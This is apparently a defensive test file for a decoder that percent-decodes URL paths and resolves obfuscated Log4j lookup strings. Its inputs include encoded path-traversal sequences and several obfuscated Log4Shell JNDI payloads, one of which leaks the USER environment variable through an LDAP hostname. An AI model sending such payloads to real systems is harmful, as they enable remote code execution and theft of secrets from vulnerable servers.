import { describe, expect, it } from 'vitest';
import { decodingRounds, percentDecodeOnce, resolveLog4jLookups } from './decode.js';

describe('lenient percent-decoding', () => {
  it('decodes %XX and keeps stray percent signs', () => {
    expect(percentDecodeOnce('/a%20b%2e%2E/100%')).toBe('/a b../100%');
    expect(percentDecodeOnce('%%32%65')).toBe('%2e');
    expect(percentDecodeOnce('%C3%A9t%C3%A9')).toBe('été');
    // Invalid UTF-8 stays visible byte for byte instead of becoming U+FFFD.
    expect(percentDecodeOnce('%ff%2e')).toBe('\u00ff.');
  });
  it('lists each round until nothing changes', () => {
    expect(decodingRounds('.%%32%65/', 3)).toEqual(['.%%32%65/', '.%2e/', '../']);
    expect(decodingRounds('%252e', 1)).toEqual(['%252e', '%2e']);
    expect(decodingRounds('a+b', 2)).toEqual(['a+b', 'a b']);
    expect(decodingRounds('plain', 0)).toEqual(['plain']);
  });
});

describe('Log4j lookup resolution', () => {
  it.each([
    ['${${lower:j}ndi:ldap://x/a}', '${jndi:ldap://x/a}'],
    ['${${::-j}${::-n}di:rmi://x/a}', '${jndi:rmi://x/a}'],
    ['${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//x/a}', '${jndi:ldap://x/a}'],
    ['${${upper:j}${date:\'n\'}di:dns://x}', '${Jndi:dns://x}'],
    ['${jndi:ldap://${env:USER}.x/a}', '${jndi:ldap://${env:USER}.x/a}'],
  ])('%s', (input, expected) => {
    expect(resolveLog4jLookups(input)).toBe(expected);
  });
  it('stops on hostile nesting', () => {
    const deep = `${'${::-'.repeat(50)}j${'}'.repeat(50)}`;
    expect(() => resolveLog4jLookups(deep)).not.toThrow();
  });
});
